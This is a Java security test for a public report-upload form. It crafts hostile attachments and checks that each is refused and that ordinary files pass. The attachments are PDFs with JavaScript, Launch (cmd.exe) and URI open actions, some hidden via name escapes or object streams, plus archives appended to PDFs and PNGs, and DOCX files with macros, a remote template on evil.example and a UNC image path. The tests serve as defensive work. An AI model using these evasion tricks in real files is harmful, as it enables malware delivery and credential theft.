package ru.probity.security;

import static org.assertj.core.api.Assertions.assertThat;

import java.io.ByteArrayOutputStream;
import java.nio.charset.StandardCharsets;
import java.util.LinkedHashMap;
import java.util.Map;
import java.util.concurrent.atomic.AtomicInteger;
import java.util.zip.Deflater;
import java.util.zip.ZipEntry;
import java.util.zip.ZipOutputStream;
import org.apache.pdfbox.pdmodel.PDDocument;
import org.apache.pdfbox.pdmodel.PDPage;
import org.apache.pdfbox.pdmodel.PDPageContentStream;
import org.apache.pdfbox.pdmodel.common.PDRectangle;
import org.apache.pdfbox.pdmodel.font.PDType1Font;
import org.apache.pdfbox.pdmodel.font.Standard14Fonts;
import org.apache.pdfbox.pdmodel.interactive.action.PDActionJavaScript;
import org.apache.pdfbox.pdmodel.interactive.action.PDActionURI;
import org.apache.pdfbox.pdmodel.interactive.annotation.PDAnnotationLink;
import org.apache.pdfbox.pdmodel.interactive.documentnavigation.destination.PDPageFitDestination;
import org.apache.poi.xwpf.usermodel.XWPFDocument;
import org.junit.jupiter.api.Tag;
import org.junit.jupiter.api.Test;
import org.springframework.mock.web.MockMultipartFile;
import org.springframework.test.web.servlet.MvcResult;
import ru.probity.reports.PublicReception;

/**
 * Issue 14, item 13 (the reports' part): anonymous reporters could attach active content that runs
 * or fetches when an officer opens it — a PDF with JavaScript or an appended ZIP, a ZIP posing as a
 * DOCX, a DOCX with macros or an external template. Each crafted file, sent through the public form,
 * is now refused with a Russian reason and nothing is stored; ordinary files with a page-showing
 * open action, web links and hyperlinks still pass.
 */
@Tag("security")
class Hole13ActiveContentTest extends SecurityTest {

    private static final AtomicInteger ADDRESS = new AtomicInteger();

    // ------------------------------------------------------------ crafted files

    private static byte[] ascii(String s) {
        return s.getBytes(StandardCharsets.ISO_8859_1);
    }

    private static byte[] concat(byte[]... parts) {
        ByteArrayOutputStream out = new ByteArrayOutputStream();
        for (byte[] p : parts) {
            out.writeBytes(p);
        }
        return out.toByteArray();
    }

    /** A one-page PDF; {@code catalog} adds entries to the catalog, {@code objects} more objects. */
    private static byte[] pdf(String catalog, String objects) {
        return ascii("%PDF-1.7\n%\u00e2\u00e3\u00cf\u00d3\n"
                + "1 0 obj\n<< /Type /Catalog /Pages 2 0 R " + catalog + " >>\nendobj\n"
                + "2 0 obj\n<< /Type /Pages /Kids [3 0 R] /Count 1 >>\nendobj\n"
                + "3 0 obj\n<< /Type /Page /Parent 2 0 R /MediaBox [0 0 200 200] /Contents 4 0 R >>\nendobj\n"
                + "4 0 obj\n<< /Length 44 >>\nstream\nBT /F1 12 Tf 20 100 Td (Hello /JS) Tj ET\nendstream\nendobj\n"
                + objects
                + "trailer\n<< /Root 1 0 R >>\n%%EOF\n");
    }

    private static byte[] deflate(byte[] data) {
        Deflater deflater = new Deflater();
        deflater.setInput(data);
        deflater.finish();
        ByteArrayOutputStream out = new ByteArrayOutputStream();
        byte[] buffer = new byte[4096];
        while (!deflater.finished()) {
            out.write(buffer, 0, deflater.deflate(buffer));
        }
        deflater.end();
        return out.toByteArray();
    }

    /** A PDF whose open action is object 9, kept compressed in an object stream. */
    private static byte[] pdfWithHiddenAction(String action, boolean typed) {
        String header = "9 0 ";
        byte[] packed = deflate(ascii(header + action));
        byte[] head = pdf(
                "/OpenAction 9 0 R",
                "8 0 obj\n<< " + (typed ? "/Type /ObjStm " : "") + "/N 1 /First " + header.length() + " /Length "
                        + packed.length + " /Filter /FlateDecode >>\nstream\n");
        // the stream goes before the trailer: split the document where the trailer starts
        String text = new String(head, StandardCharsets.ISO_8859_1);
        int trailer = text.indexOf("trailer");
        return concat(
                ascii(text.substring(0, trailer)),
                packed,
                ascii("\nendstream\nendobj\n"),
                ascii(text.substring(trailer)));
    }

    private static byte[] zip(Map<String, String> entries, String comment) throws Exception {
        ByteArrayOutputStream out = new ByteArrayOutputStream();
        try (ZipOutputStream zip = new ZipOutputStream(out)) {
            for (var e : entries.entrySet()) {
                zip.putNextEntry(new ZipEntry(e.getKey()));
                zip.write(e.getValue().getBytes(StandardCharsets.UTF_8));
                zip.closeEntry();
            }
            if (comment != null) {
                zip.setComment(comment);
            }
        }
        return out.toByteArray();
    }

    private static final String RELS_NS = "http://schemas.openxmlformats.org/package/2006/relationships";
    private static final String REL = "http://schemas.openxmlformats.org/officeDocument/2006/relationships/";

    /** A Word document's parts; callers add or replace some. */
    private static Map<String, String> docx() {
        Map<String, String> parts = new LinkedHashMap<>();
        parts.put(
                "[Content_Types].xml",
                "<?xml version=\"1.0\" encoding=\"UTF-8\"?><Types xmlns=\"http://schemas.openxmlformats.org/package/2006/"
                        + "content-types\"><Default Extension=\"rels\" ContentType=\"application/vnd.openxmlformats-package"
                        + ".relationships+xml\"/><Default Extension=\"xml\" ContentType=\"application/xml\"/><Override"
                        + " PartName=\"/word/document.xml\" ContentType=\"application/vnd.openxmlformats-officedocument"
                        + ".wordprocessingml.document.main+xml\"/></Types>");
        parts.put(
                "_rels/.rels",
                "<?xml version=\"1.0\"?><Relationships xmlns=\"" + RELS_NS + "\"><Relationship Id=\"rId1\" Type=\""
                        + REL + "officeDocument\" Target=\"word/document.xml\"/></Relationships>");
        parts.put(
                "word/document.xml",
                "<?xml version=\"1.0\"?><w:document xmlns:w=\"http://schemas.openxmlformats.org/wordprocessingml/2006/"
                        + "main\"><w:body><w:p><w:r><w:t>Акт</w:t></w:r></w:p></w:body></w:document>");
        parts.put(
                "word/_rels/document.xml.rels",
                "<?xml version=\"1.0\"?><Relationships xmlns=\"" + RELS_NS + "\"><Relationship Id=\"rId1\" Type=\""
                        + REL + "hyperlink\" Target=\"https://example.org/акт\" TargetMode=\"External\"/>"
                        + "</Relationships>");
        return parts;
    }

    /** A PDF as PDFBox saves it (compressed object streams and cross-reference stream). */
    private static byte[] pdfBox(boolean script) throws Exception {
        try (PDDocument document = new PDDocument()) {
            PDPage page = new PDPage();
            document.addPage(page);
            try (PDPageContentStream content = new PDPageContentStream(document, page)) {
                content.beginText();
                content.setFont(new PDType1Font(Standard14Fonts.FontName.HELVETICA), 12);
                content.newLineAtOffset(50, 700);
                content.showText("Act of inspection");
                content.endText();
            }
            PDAnnotationLink link = new PDAnnotationLink();
            PDActionURI uri = new PDActionURI();
            uri.setURI("https://example.org/act");
            link.setAction(uri);
            link.setRectangle(new PDRectangle(50, 690, 100, 20));
            page.getAnnotations().add(link);
            if (script) {
                document.getDocumentCatalog().setOpenAction(new PDActionJavaScript("app.alert(1)"));
            } else {
                PDPageFitDestination fit = new PDPageFitDestination();
                fit.setPage(page);
                document.getDocumentCatalog().setOpenAction(fit);
            }
            ByteArrayOutputStream out = new ByteArrayOutputStream();
            document.save(out);
            return out.toByteArray();
        }
    }

    /** A Word document as Apache POI writes it, with a hyperlink. */
    private static byte[] poiDocx() throws Exception {
        try (XWPFDocument document = new XWPFDocument()) {
            document.createParagraph().createRun().setText("Акт проверки");
            document.createParagraph()
                    .createHyperlinkRun("https://example.org/act")
                    .setText("ссылка");
            ByteArrayOutputStream out = new ByteArrayOutputStream();
            document.write(out);
            return out.toByteArray();
        }
    }

    // ------------------------------------------------------------ the reception

    private MvcResult send(String name, String type, byte[] content) throws Exception {
        // a client per file: the submission limit per client is not what is tested
        PublicReception reporter = new PublicReception(mvc, "10.13.0." + ADDRESS.incrementAndGet());
        return reporter.submit(
                organizationId(UGH),
                "Сообщение с приложенным файлом для проверки.",
                new MockMultipartFile("files", name, type, content));
    }

    private long lastReport() {
        return jdbc.sql("select coalesce(max(id), 0) from report")
                .query(Long.class)
                .single();
    }

    private void refused(String name, String type, byte[] content, String reason) throws Exception {
        long before = lastReport();
        MvcResult result = send(name, type, content);
        assertThat(result.getResponse().getStatus()).as(name).isEqualTo(422);
        assertThat(PublicReception.html(result))
                .as(name)
                .contains("Файл «" + name + "» не принят")
                .contains(reason);
        assertThat(lastReport()).as("nothing stored for " + name).isEqualTo(before);
    }

    private void accepted(String name, String type, byte[] content) throws Exception {
        MvcResult result = send(name, type, content);
        assertThat(result.getResponse().getStatus())
                .as(name + ": " + PublicReception.html(result))
                .isEqualTo(200);
    }

    @Test
    void pdfsWithScriptsActionsOrEmbeddedFilesAreRefused() throws Exception {
        String script = "в PDF есть активное содержимое";
        refused(
                "js.pdf",
                "application/pdf",
                pdf("/OpenAction << /S /JavaScript /JS (app.alert\\(1\\)) >>", ""),
                script);
        // names spelled with #xx escapes are the same names to a viewer
        refused(
                "escaped.pdf",
                "application/pdf",
                pdf("/OpenAction << /S /J#61vaScript /J#53 (app.alert\\(1\\)) >>", ""),
                script);
        refused(
                "names.pdf",
                "application/pdf",
                pdf("/Names << /JavaScript 5 0 R >>", "5 0 obj\n<< /Names [(a) 6 0 R] >>\nendobj\n"),
                script);
        refused(
                "attached.pdf",
                "application/pdf",
                pdf("/Names << /EmbeddedFiles << /Names [(run.exe) 6 0 R] >> >>", ""),
                script);
        // an action kept compressed in an object stream, with or without the stream's type
        refused("launch.pdf", "application/pdf", pdfWithHiddenAction("<< /S /Launch /F (cmd.exe) >>", true), script);
        refused(
                "hidden.pdf",
                "application/pdf",
                pdfWithHiddenAction("<< /S /JavaScript /JS (this.exportDataObject\\(\\)) >>", false),
                script);
        // a stray parenthesis between objects (a viewer skips it, going by offsets) hides nothing
        refused(
                "stray.pdf",
                "application/pdf",
                pdf("/OpenAction 5 0 R", "(\n5 0 obj\n<< /S /JavaScript /JS (app.alert\\(1\\)) >>\nendobj\n"),
                script);
        // as a PDF library writes it: the catalog and its action compressed in an object stream
        refused("pdfbox.pdf", "application/pdf", pdfBox(true), script);
        // an open action that opens a web address on sight
        refused(
                "uri.pdf",
                "application/pdf",
                pdf("/OpenAction << /S /URI /URI (https://evil.example/p) >>", ""),
                script);
    }

    @Test
    void aPdfWithAnAppendedArchiveIsRefused() throws Exception {
        byte[] payload = zip(Map.of("payload.exe", "MZ..."), null);
        refused(
                "appended.pdf",
                "application/pdf",
                concat(pdf("", ""), payload),
                "после конца документа или изображения в нём есть другие данные");
        // the archive's comment ends the file with %%EOF, so nothing seems to follow the document
        refused(
                "polyglot.pdf",
                "application/pdf",
                concat(pdf("", ""), zip(Map.of("payload.exe", "MZ..."), "\n%%EOF\n")),
                "после конца документа или изображения в нём есть другие данные");
        // an image with an archive appended
        refused(
                "photo.png",
                "image/png",
                concat(new byte[] {(byte) 0x89, 'P', 'N', 'G', 13, 10, 26, 10, 0}, payload),
                "после конца документа или изображения в нём есть другие данные");
    }

    @Test
    void zipsPosingAsWordAndWordWithMacrosOrExternalTemplatesAreRefused() throws Exception {
        String docx = "application/vnd.openxmlformats-officedocument.wordprocessingml.document";
        // the name word/document.xml somewhere in an archive does not make a Word document
        refused(
                "archive.docx",
                docx,
                zip(Map.of("word/document.xml", "<x/>", "readme.txt", "hi"), null),
                "это не документ Word");
        refused("comment.docx", docx, zip(Map.of("setup.txt", "run me"), "word/document.xml"), "это не документ Word");

        Map<String, String> macro = docx();
        macro.put("word/vbaProject.bin", "macro");
        refused("macro.docx", docx, zip(macro, null), "макросы");

        Map<String, String> template = docx();
        template.put("word/settings.xml", "<?xml version=\"1.0\"?><w:settings xmlns:w=\"x\"/>");
        template.put(
                "word/_rels/settings.xml.rels",
                "<?xml version=\"1.0\"?><Relationships xmlns=\"" + RELS_NS + "\"><Relationship Id=\"rId1\" Type=\""
                        + REL + "attachedTemplate\" Target=\"http://evil.example/t.dotm\" TargetMode=\"External\"/>"
                        + "</Relationships>");
        refused("template.docx", docx, zip(template, null), "внешний шаблон");

        // an external picture, spelled with a character reference
        Map<String, String> picture = docx();
        picture.put(
                "word/_rels/document.xml.rels",
                "<?xml version=\"1.0\"?><Relationships xmlns=\"" + RELS_NS + "\"><Relationship Id=\"rId1\" Type=\""
                        + REL + "image\" Target=\"\\\\evil.example\\share\\a.png\" TargetMode=\"&#69;xternal\"/>"
                        + "</Relationships>");
        refused("picture.docx", docx, zip(picture, null), "внешний шаблон");
    }

    @Test
    void ordinaryDocumentsStillPass() throws Exception {
        accepted(
                "plain.pdf",
                "application/pdf",
                pdf(
                        "/OpenAction [3 0 R /Fit]",
                        "6 0 obj\n<< /Type /Annot /Subtype /Link /Rect [0 0 10 10] /A << /S /URI /URI"
                                + " (https://example.org) >> >>\nendobj\n"));
        accepted(
                "letter.docx",
                "application/vnd.openxmlformats-officedocument.wordprocessingml.document",
                zip(docx(), null));
    }
}
